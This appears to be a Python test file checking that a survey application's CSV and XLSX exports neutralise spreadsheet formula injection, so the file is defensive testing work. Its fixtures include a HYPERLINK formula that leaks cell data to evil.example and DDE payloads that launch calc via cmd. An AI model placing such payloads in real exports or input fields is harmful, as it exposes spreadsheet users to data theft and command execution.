"""CSV formula injection: no export lets a spreadsheet run text that came from a person as a formula.

Unit and campaign names are set to formulas (they come from CSV files and the command line);
then every spreadsheet the application writes is read back cell by cell.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from survey.extensions import db

from .helpers import FIGURES, World

#: Names that a spreadsheet would run if written as they are.
FORMULA_NAMES = {
    0: ('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "=1+1"),
    1: ("+SUM(1,2)", "@SUM(1)"),
    2: ("-2+3", "\t=cmd|' /C calc'!A0"),
    3: ("\r=1+2", "Ha Giang"),
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def dangerous_csv_cells(data: bytes) -> list[str]:
    """Cells of a CSV file that a spreadsheet would treat as a formula."""
    text = data.decode("utf-8-sig")
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            FIGURES["table: export cell read back"] += 1
            if cell.startswith(FORMULA_STARTS) and not _is_number(cell):
                found.append(cell[:60])
    return found


def dangerous_xlsx_cells(data: bytes) -> tuple[list[str], list[str]]:
    """(formula cells, text cells that start like a formula without the neutralising apostrophe)."""
    workbook = load_workbook(io.BytesIO(data))
    formulas, texts = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                FIGURES["table: export cell read back"] += 1
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    texts.append(f"{sheet.title}!{cell.coordinate}: {cell.value[:60]}")
    return formulas, texts


def _plant_formulas(world: World) -> None:
    for index, (name_vi, name_en) in FORMULA_NAMES.items():
        world.units[index].name_vi = name_vi
        world.units[index].name_en = name_en
    world.campaign.name_vi = '=cmd|" /C calc"!A0'
    world.campaign.name_en = "@evil"
    db.session.commit()


def test_every_export_neutralises_formulas(app: Any, world: World, browser: Any, runner: Any, tmp_path: Path) -> None:
    _plant_formulas(world)
    code = world.campaign.code
    hq = browser(world.hq.email)
    auditor = browser(world.auditor.email)
    files: dict[str, bytes] = {}
    for lang in ("vi", "en"):
        for fmt in ("csv", "xlsx"):
            response = hq.get(f"/hq/campaigns/{code}/report.{fmt}?lang={lang}")
            assert response.status_code == 200
            files[f"web report.{fmt} ({lang})"] = response.data
        out = tmp_path / f"report-{lang}.xlsx"
        result = runner.invoke(args=["report", code, "--format", "xlsx", "--out", str(out), "--lang", lang])
        assert result.exit_code == 0, result.output
        files[f"flask report xlsx ({lang})"] = out.read_bytes()
        out = tmp_path / f"report-{lang}.csv"
        result = runner.invoke(args=["report", code, "--format", "csv", "--out", str(out), "--lang", lang])
        assert result.exit_code == 0, result.output
        files[f"flask report csv ({lang})"] = out.read_bytes()
    files["raw responses.csv"] = hq.get(f"/hq/campaigns/{code}/responses.csv").data
    files["paper template.csv"] = auditor.get(f"/audit/assignments/{world.open_assignment.id}/template.csv").data

    problems = []
    for name, data in files.items():
        if name.endswith(")") and "xlsx" in name:
            formulas, texts = dangerous_xlsx_cells(data)
            problems += [f"{name}: formula cell {cell}" for cell in formulas]
            problems += [f"{name}: text starting like a formula {cell}" for cell in texts]
        else:
            problems += [f"{name}: {cell!r}" for cell in dangerous_csv_cells(data)]
    assert not problems, "\n".join(problems[:30])
    # The names really are in the reports, neutralised, so the check above had something to find.
    report = files["web report.csv (vi)"].decode("utf-8-sig")
    assert "'=HYPERLINK(" in report and "'+SUM(1,2)" in report and "'-2+3" in report
    workbook = load_workbook(io.BytesIO(files["web report.xlsx (en)"]))
    names = {cell.value for cell in workbook["units"]["B"]}
    assert "'=1+1" in names and "'@SUM(1)" in names


def test_the_links_file_has_no_cell_a_spreadsheet_reads_as_a_formula(world: World, runner: Any, tmp_path: Path) -> None:
    """HQ opens the links file in Excel for mail merges: a token starting with "-" becomes #NAME? there.

    Of 1,000 tokens of 22 URL-safe characters about 16 start with "-"; the fix is to issue none that do.
    """
    out = tmp_path / "links.csv"
    result = runner.invoke(args=["invitations", world.campaign.code, "--unit", world.units[1].code, "--count", "1000",
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert dangerous_csv_cells(out.read_bytes()) == []
